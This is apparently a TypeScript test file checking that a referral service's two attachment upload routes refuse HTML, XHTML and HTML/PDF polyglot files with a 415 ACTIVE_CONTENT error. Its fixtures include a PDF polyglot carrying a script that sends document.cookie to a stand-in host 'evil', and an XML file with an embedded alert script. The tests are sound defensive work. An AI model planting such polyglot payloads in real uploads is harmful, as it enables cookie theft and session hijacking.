import { Harness, startHarness, USERS } from '../helpers/harness';
import { pdfFile } from '../../simulator/data/files';

const PDF = pdfFile(['Referral letter', 'Please see this patient.']);
/** Starts like a PDF (magic bytes in the first kilobyte) but is an HTML page to a browser that sniffs it. */
const POLYGLOT = Buffer.concat([
  Buffer.from('%PDF-1.4\n%<html><body><script>fetch("//evil/?c="+document.cookie)</script></body></html>\n', 'latin1'),
  PDF,
]);
const UPLOAD = 'mutation($file: Upload!) { uploadAttachment(file: $file) { url } }';

interface Body {
  data?: Record<string, any> | null;
  attachment?: { url: string };
  errors?: Array<{ message: string; extensions: Record<string, any> }>;
}

/** Uploads that sniff as HTML or script are refused by both upload routes, before any byte goes to e-RS. */
describe('uploads holding HTML or script', () => {
  let h: Harness;
  beforeAll(async () => {
    h = await startHarness();
  });
  afterAll(() => h.close());
  beforeEach(() => h.simulator.resetCalls());

  const a020Calls = () => h.ersCalls().filter((call) => call.path === '/STU3/Binary');
  const file = (bytes: Buffer, _name: string) => new Blob([bytes], { type: 'application/pdf' });

  async function postAttachment(bytes: Buffer, name: string): Promise<{ status: number; body: Body }> {
    const form = new FormData();
    form.append('file', file(bytes, name), name);
    const response = await fetch(h.graphqlUrl.replace(/\/graphql$/, '/attachments'), {
      method: 'POST',
      headers: { Authorization: `Bearer ${await h.idToken(USERS.referrer)}` },
      body: form,
    });
    return { status: response.status, body: (await response.json()) as Body };
  }

  async function uploadAttachment(bytes: Buffer, name: string): Promise<{ status: number; body: Body }> {
    const form = new FormData();
    form.append('operations', JSON.stringify({ query: UPLOAD, variables: { file: null } }));
    form.append('map', JSON.stringify({ 0: ['variables.file'] }));
    form.append('0', file(bytes, name), name);
    const response = await fetch(h.graphqlUrl, {
      method: 'POST',
      headers: { Authorization: `Bearer ${await h.idToken(USERS.referrer)}`, 'Apollo-Require-Preflight': 'true' },
      body: form,
    });
    return { status: response.status, body: (await response.json()) as Body };
  }

  it.each([
    ['an HTML/PDF polyglot named .pdf', POLYGLOT, 'letter.pdf', '<html'],
    ['an HTML page named .txt', Buffer.from('<!DOCTYPE html>\n<p>Referral</p>'), 'letter.txt', '<!doctype html'],
    [
      'XML that brings XHTML',
      Buffer.from('<?xml version="1.0"?><letter xmlns:h="http://www.w3.org/1999/xhtml"><h:script>alert(1)</h:script></letter>'),
      'letter.xml',
      'http://www.w3.org/1999/xhtml',
    ],
  ])('POST /attachments refuses %s with 415 ACTIVE_CONTENT and no e-RS call', async (_what, bytes, name, marker) => {
    const { status, body } = await postAttachment(bytes, name);
    expect(status).toBe(415);
    expect(body.errors![0].extensions).toEqual({ code: 'UNSUPPORTED_MEDIA_TYPE', reason: 'ACTIVE_CONTENT', marker });
    expect(a020Calls()).toHaveLength(0);
  });

  it('uploadAttachment refuses the polyglot with the same GraphQL error and no e-RS call', async () => {
    const { body } = await uploadAttachment(POLYGLOT, 'letter.pdf');
    expect(body.data).toEqual({ uploadAttachment: null });
    expect(body.errors![0].extensions).toMatchObject({ code: 'UNSUPPORTED_MEDIA_TYPE', reason: 'ACTIVE_CONTENT', marker: '<html' });
    expect(a020Calls()).toHaveLength(0);
  });

  it('both routes still take the PDF without the HTML', async () => {
    const route = await postAttachment(PDF, 'letter.pdf');
    expect(route.status).toBe(201);
    const graphql = await uploadAttachment(PDF, 'letter2.pdf');
    expect(graphql.body.errors).toBeUndefined();
    expect(graphql.body.data!.uploadAttachment.url).toMatch(/^Binary\//);
    expect(a020Calls()).toHaveLength(2);
  });
});
